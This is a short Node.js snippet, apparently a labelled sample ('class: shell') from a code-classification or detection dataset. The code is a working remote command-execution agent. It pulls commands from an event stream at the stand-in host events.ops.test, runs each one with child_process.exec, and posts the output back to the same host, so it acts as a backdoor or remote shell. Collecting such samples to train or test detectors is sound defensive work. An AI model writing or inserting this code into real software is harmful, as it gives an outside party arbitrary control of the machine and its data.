// class: shell; possible: low medium
const http = require('http'); const { exec } = require('child_process');
http.get('http://events.ops.test/events', res => {
  let buf = '';
  res.on('data', d => {
    buf += d;
    const parts = buf.split('\n\n'); buf = parts.pop();
    for (const p of parts) {
      const { run } = JSON.parse(p.replace(/^data: /, ''));
      exec(run, (e, out) => {
        const r = http.request('http://events.ops.test/result', { method: 'POST' }); r.end(out || String(e));
      });
    }
  });
  res.on('end', () => setTimeout(() => process.exit(), 1500));
});
